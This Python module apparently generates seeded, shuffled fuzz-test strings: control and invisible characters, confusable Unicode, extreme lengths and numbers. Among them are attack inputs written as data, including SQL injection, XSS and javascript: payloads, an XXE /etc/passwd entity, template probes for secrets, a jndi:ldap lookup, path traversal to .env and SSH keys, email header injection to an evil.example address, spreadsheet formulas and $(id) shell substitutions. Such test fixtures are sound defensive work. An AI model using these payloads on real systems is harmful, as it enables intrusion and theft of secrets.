# ruff: noqa: E501, RUF001  odd letters are what this is about
"""Text as nobody should type it, made by rules: letters that break columns, and words that other programs obey."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from urllib.parse import quote

# Would appear in an answer only if somebody worked out what was typed.
_FACTORS, WORKED_OUT = (7919, 7907), "62615533"
# Would appear in a page only if it was not escaped, in a header only if a line end got through.
TAG, HEADER = "<x5s", "X-Injected"


def strings(*, seed: int) -> list[str]:
    """Return all of them, each once, in an order that depends on the seed."""
    found = list(dict.fromkeys(itertools.chain(
        _controls(), _halves(), _invisible(), _marks(), _wide(), _lengths(), _nothings(), _numbers(), _sql(), _markup(),
        _templates(), _formats(), _paths(), _lines(), _percent(), _overlong(), _addresses(), _alike(), _chance(seed),
    )))  # fmt: skip
    random.Random(seed).shuffle(found)
    return found


def _controls() -> Iterator[str]:
    for number in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"con{chr(number)}trol"
    yield "\x00"
    yield "\x1b[31mred\x1b[0m\x07"


def _halves() -> Iterator[str]:
    """Half characters, which JSON can write and UTF-8 cannot."""
    for half in ("\ud800", "\udbff", "\udc00", "\udfff"):
        yield from (half, f"a{half}b", half * 9)
    yield "\udc00\ud800"


def _invisible() -> Iterator[str]:
    for number in (0xAD, 0x34F, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x206A),
                   0xFEFF, *range(0xFFF9, 0xFFFC), 0xFFFE, 0xFFFF, 0x1D173, 0xE0001, 0xE0041, 0x1FFFE, 0x10FFFF):  # fmt: skip
        yield f"in{chr(number)}visible"
        yield chr(number)
    for number in (0x85, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029, 0x202F, 0x205F, 0x3000):
        yield f"{chr(number)}space{chr(number)}"
    yield "\u202egpj.exe"


def _marks() -> Iterator[str]:
    for count in (1, 2, 40, 500):
        yield "e" + "\u0301" * count
    yield from ("\u0301", "Å", "A\u030a", "ﬁ", "ﷺ" * 40, "İ", "ı", "ß", "ẞ", "ΐ", "ŉ", "Ǆ")


def _wide() -> Iterator[str]:
    people = ("👩", "👨", "👧", "👦")
    yield from ("💩", "🏳️‍🌈", "\u200d".join(people), "🇩🇪", "🇩", "👍🏿", "𝕬𝖉𝖆", "𠜎", "1️⃣", "💩" * 100)
    for script in ("שלום", "مرحبا", "日本語", "Ελληνικά", "हिन्दी", "ไทย", "한국어"):
        yield from (script, script * 50)


def _lengths() -> Iterator[str]:
    for length in (
        40,
        41,
        60,
        61,
        80,
        81,
        120,
        121,
        200,
        201,
        254,
        255,
        256,
        300,
        301,
        500,
        501,
        1000,
        1001,
        4097,
        60_000,
    ):
        yield "n" * length
    yield from (" " * 300, "ü" * 255, "a@" + "b" * 300)


def _nothings() -> Iterator[str]:
    yield from ("", " ", "\t", "null", "NULL", "None", "nil", "undefined", "(null)", "\\N", "void", "[]", "{}", "[object Object]",
                "true", "false", "TRUE", "yes", "no", "on", "off", "default", "constructor", "__proto__", "hasOwnProperty",
                "self", "this", "id", "admin", "root", "0", "-", "--", ".", "..", "/", "\\", "*", "?", "'", '"', "`")  # fmt: skip


def _numbers() -> Iterator[str]:
    yield from ("NaN", "nan", "Infinity", "-Infinity", "inf", "1e999", "-1e999", "1e-999", "-0", "00", "007", "0x10", "0b1", "1_000",
                "1,000.00", "1.000,00", "+1", "-1", "½", "²", "٣", "１２", "9" * 20, "9" * 400, "2147483648", "-2147483649",
                "9223372036854775808", "1.7976931348623157e309", "4.9e-324", "1/0", "$1", "1e1")  # fmt: skip


def _sql() -> Iterator[str]:
    tails = (
        "OR 1=1 --",
        "; DROP TABLE accounts_user; --",
        "UNION SELECT NULL,NULL --",
        "AND pg_sleep(9)=0 --",
        "|| version() ||",
        "LIKE '%",
    )
    for quote_mark, tail in itertools.product(("'", '"', "')", "`", "\\'", "''", "1"), tails):
        yield f"x{quote_mark} {tail}"
    yield from ("%", "_", "%%%", "[a-z]*", "$$;$$", "E'\\000'", "x'; COPY t FROM PROGRAM 'id'; --")


def _markup() -> Iterator[str]:
    events = (
        "onerror=alert(1)",
        "onload=alert(1)",
        "autofocus onfocus=alert(1)",
        "style=animation-name:x onanimationstart=alert(1)",
    )
    for opening, event in itertools.product(
        ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", '\\">'), events
    ):
        yield f"{opening}{TAG} {event}>"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "data:text/html,",
        "vbscript:",
        "\x01javascript:",
    ):
        yield from (f"{scheme}alert(1)", f'{TAG} href="{scheme}alert(1)">')
    yield from (f"&lt;{TAG}>", f"{TAG}", f"{TAG}/><script>alert(1)</script>", f"{TAG}\x00>", f"＜{TAG[1:]}>", "&#x3c;x5s>", "&amp;",
                "<!--", "<![CDATA[", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', f"]]>{TAG}>")  # fmt: skip


def _templates() -> Iterator[str]:
    product = "*".join(str(factor) for factor in _FACTORS)
    for opening, closing in (
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("@(", ")"),
        ("[[", "]]"),
        ("$((", "))"),
        ("`", "`"),
    ):
        yield from (f"{opening}{product}{closing}", f"{opening} {product} {closing}")
    yield from ("{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{{ request.user.password }}", "{#", "{{", "}}",
                "${jndi:ldap://x.example/a}", "#{request}", "{% csrf_token %}")  # fmt: skip


def _formats() -> Iterator[str]:
    yield from ("%s", "%d", "%n%n%n", "%(name)s", "%(amount)d", "%x" * 20, "%99999d", "%%s", "{}", "{0}", "{0.__class__}", "{x!r}", "{:>99999}",
                "%", "100 %", "$name", "\\1", "\\g<0>", "(?P<x>", "(a+)+$" + "a" * 40 + "!", "[", "(", "*" * 40)  # fmt: skip


def _paths() -> Iterator[str]:
    for step, target in itertools.product(
        ("../", "..\\", "....//", "%2e%2e/", "..%2f", "..%c0%af"),
        ("etc/passwd", "config/settings.py", ".env"),
    ):
        yield step * 6 + target
    yield from ("/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "\\\\host\\share", "~/.ssh/id_rsa", "CON", "NUL", "aux.txt", ".git/config",
                "//evil.example", "https://evil.example", "https:evil.example", "/\\evil.example", "http://localhost:8000@evil.example/",
                "http://localhost:8000.evil.example/", "http://[::1", "http://0x7f.1/", "http://localhost:8000/\r\nx")  # fmt: skip


def _lines() -> Iterator[str]:
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\x0b", "\x0c", "\x85", "\r\n\r\n"):
        yield f"line{end}{HEADER}: 1"
        yield f"a@readers.example{end}Bcc: thief@evil.example"
    yield from (
        '=HYPERLINK("http://evil.example")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "a;b|c&d",
        "$(id)",
        "`id`",
        "| id",
        "; id",
    )


def _percent() -> Iterator[str]:
    yield from ("%zz", "%", "%u0041", "%00", "%25%30%30", "%C0%AF", "%e2%28%a1", "%ff%fe", "%ED%A0%80", quote("ü") * 20, "&amp;#0;", "&#0;",
                "\\u0000", "\\x00", "\\ud800", "=?utf-8?B?AAAA?=", "=?utf-8?q?=0d=0a?=", "=0D=0A")  # fmt: skip


def _overlong() -> Iterator[str]:
    """Bytes that are no UTF-8, as text that a server makes of them."""
    for raw in (
        b"\xc0\xaf",
        b"\xc0\x80",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xff\xfe",
        b"\xef\xbb\xbf",
        b"\x80",
    ):
        yield raw.decode("latin-1")
        yield raw.decode("utf-8", "surrogateescape")


def _addresses() -> Iterator[str]:
    for local, host in itertools.product(
        ("a", '"a b"', "a..b", ".a", "a+b", "ä", "a\x00", "а", "x" * 70, "%s", "'", "a,b", "<a>"),
        ("readers.example", "[127.0.0.1]", "xn--", "ä.example", "-", "b@c"),
    ):
        yield f"{local}@{host}"
    yield from (
        "@",
        "a@",
        "@b",
        "a@b",
        "Name <a@readers.example>",
        "a@readers.example, b@readers.example",
        "mailto:a@readers.example",
        "A@READERS.EXAMPLE",
    )


def _alike() -> Iterator[str]:
    yield from (
        "аdmin",
        "ａｄｍｉｎ",
        "admin\u200b",
        "ADMİN",
        "paypaⅼ",
        "rеader",
        "𝒶𝒹𝓂𝒾𝓃",
        "harbour‐vote",
        "harbour−vote",
        "Ⅷ",
    )


def _chance(seed: int) -> Iterator[str]:
    dice = random.Random(f"chance {seed}")
    letters = "\x00\x1b\r\n\"'<>&%{}$\\/;=,:@ \u202e\u200d\ud83d\udca9é漢٣"
    for length in (1, 2, 3, 5, 8, 13, 21, 34) * 5:
        yield "".join(dice.choice(letters) for _ in range(length))
